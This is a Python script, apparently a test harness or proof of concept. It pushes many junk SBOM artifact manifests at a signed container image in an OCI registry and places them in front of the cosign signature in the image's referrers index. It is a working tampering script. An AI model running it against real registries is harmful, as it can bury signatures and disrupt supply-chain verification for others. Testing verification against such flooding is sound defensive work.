#!/usr/bin/env python3
"""Piles junk beside a signed image, as SBOM tools, scanners or an attacker with push
rights can: COUNT small artifact manifests of another type (each refers to the image),
added to the front of the image's referrers index (its tag-schema tag sha256-<hex>),
before the signature cosign attached. With --referrers-api, for a registry that keeps
the referrers itself (OCI 1.1): only the manifests, each naming the image as subject.
Usage: flood.py API DIGEST COUNT [--referrers-api]"""
import hashlib
import json
import sys
import urllib.request

api, digest, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
referrers_api = sys.argv[4:] == ["--referrers-api"]
OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
EMPTY = "application/vnd.oci.empty.v1+json"


def put_blob(data):
    dg = "sha256:" + hashlib.sha256(data).hexdigest()
    start = urllib.request.urlopen(urllib.request.Request(f"{api}/blobs/uploads/", method="POST"))
    loc = start.headers["Location"]
    loc = loc if loc.startswith("http") else api.split("/v2/")[0] + loc
    sep = "&" if "?" in loc else "?"
    urllib.request.urlopen(urllib.request.Request(
        f"{loc}{sep}digest={dg}", data=data, method="PUT",
        headers={"Content-Type": "application/octet-stream"}))
    return dg


def put_manifest(ref, body, media_type):
    urllib.request.urlopen(urllib.request.Request(
        f"{api}/manifests/{ref}", data=body, method="PUT", headers={"Content-Type": media_type}))
    return "sha256:" + hashlib.sha256(body).hexdigest()


empty = put_blob(b"{}")
tag = digest.replace(":", "-", 1)
junk = []
for i in range(count):
    layer = put_blob(json.dumps({"sbom": i}).encode())
    m = {
        "schemaVersion": 2,
        "mediaType": OCI_MANIFEST,
        "artifactType": "application/spdx+json",
        "config": {"mediaType": EMPTY, "digest": empty, "size": 2},
        "layers": [{"mediaType": "application/spdx+json", "digest": layer,
                    "size": len(json.dumps({"sbom": i}))}],
        "subject": {"mediaType": OCI_MANIFEST, "digest": digest, "size": 0},
    }
    body = json.dumps(m).encode()
    d = put_manifest("sha256:" + hashlib.sha256(body).hexdigest(), body, OCI_MANIFEST)
    junk.append({"mediaType": OCI_MANIFEST, "digest": d, "size": len(body),
                 "artifactType": "application/spdx+json"})
if not referrers_api:
    req = urllib.request.Request(f"{api}/manifests/{tag}", headers={"Accept": OCI_INDEX})
    index = json.load(urllib.request.urlopen(req))
    index["manifests"] = junk + index["manifests"]
    put_manifest(tag, json.dumps(index).encode(), OCI_INDEX)
